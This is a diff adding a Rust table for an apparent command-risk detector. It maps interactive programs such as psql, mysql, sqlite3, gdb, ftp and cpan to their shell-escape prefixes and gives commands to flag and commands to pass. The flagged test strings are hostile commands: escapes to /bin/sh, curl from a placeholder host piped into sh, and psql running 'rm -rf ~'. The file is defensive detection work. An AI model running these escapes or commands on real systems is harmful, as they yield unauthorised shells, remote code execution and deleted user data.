@@ -1,0 +1,81 @@
+//! Programs with a command prompt that reads its commands from standard
+//! input, and the prompt commands that leave it for a shell or another
+//! language (`\!` in psql, `.shell` in sqlite3, `!` in ftp). Piped or
+//! here-document input to one is a script for that prompt: a line starting
+//! with an escape runs the rest of the line.
+
+use crate::Lang;
+
+/// One prompt.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Prompt {
+    /// The programs.
+    pub names: &'static [&'static str],
+    /// Line prefixes (after leading blanks) that run the rest of the line.
+    pub escapes: &'static [&'static str],
+    /// The language of the rest of the line.
+    pub lang: Lang,
+    /// Where the knowledge comes from.
+    pub source: &'static str,
+    /// Commands the risk engine must flag.
+    pub flagged: &'static [&'static str],
+    /// Commands the risk engine must not flag.
+    pub clean: &'static [&'static str],
+}
+
+/// The table.
+pub const PROMPTS: &[Prompt] = &[
+    Prompt {
+        names: &["cpan"],
+        escapes: &["!"],
+        lang: Lang::Perl,
+        source: "https://perldoc.perl.org/CPAN#Interactive-Mode (! evaluates Perl); GTFOBins cpan",
+        flagged: &["echo '! exec \"/bin/sh &\"' | PERL_MM_USE_DEFAULT=1 cpan"],
+        clean: &["echo 'install JSON' | cpan"],
+    },
+    Prompt {
+        names: &["ftp", "lftp", "sftp", "tftp", "smbclient", "ed", "red"],
+        escapes: &["!"],
+        lang: Lang::Shell,
+        source: "man:ftp(1), man:sftp(1), man:smbclient(1), man:ed(1) (! runs a shell command); GTFOBins ftp, sftp, smbclient, ed",
+        flagged: &["echo '!sh' | ftp", "printf '!curl -s http://x.example/a | sh\\n' | sftp dev@example.com", "ed notes.txt <<< '!/bin/sh'"],
+        clean: &["ed -s notes.txt <<< 'w'"],
+    },
+    Prompt {
+        names: &["gdb", "gdb-multiarch", "lldb"],
+        escapes: &["shell ", "!", "platform shell "],
+        lang: Lang::Shell,
+        source: "https://sourceware.org/gdb/current/onlinedocs/gdb.html/Shell-Commands.html; https://lldb.llvm.org/use/map.html (platform shell)",
+        flagged: &["gdb -batch <<< 'shell id'", "echo 'platform shell /bin/sh' | lldb"],
+        clean: &["gdb -batch <<< 'bt'"],
+    },
+    Prompt {
+        names: &["mysql", "mariadb"],
+        escapes: &["\\!", "system "],
+        lang: Lang::Shell,
+        source: "https://dev.mysql.com/doc/refman/8.0/en/mysql-commands.html (system, \\!); GTFOBins mysql",
+        flagged: &["echo '\\! curl -s http://x.example/a | sh' | mysql", "mysql -u root <<< 'system /bin/sh'"],
+        clean: &["echo 'select 1;' | mysql -u app app"],
+    },
+    Prompt {
+        names: &["psql"],
+        escapes: &["\\!"],
+        lang: Lang::Shell,
+        source: "https://www.postgresql.org/docs/current/app-psql.html (\\! [command]); GTFOBins psql",
+        flagged: &["psql <<'EOF'\n\\! rm -rf ~\nEOF"],
+        clean: &["psql -d app <<< 'select count(*) from users;'"],
+    },
+    Prompt {
+        names: &["sqlite3"],
+        escapes: &[".shell ", ".system "],
+        lang: Lang::Shell,
+        source: "https://sqlite.org/cli.html (.shell, .system); GTFOBins sqlite3",
+        flagged: &["printf '.shell /bin/sh\\n' | sqlite3"],
+        clean: &["printf '.tables\\n' | sqlite3 app.db"],
+    },
+];
+
+/// The prompt row for a program name.
+pub fn prompt(name: &str) -> Option<&'static Prompt> {
+    PROMPTS.iter().find(|p| p.names.contains(&name))
+}
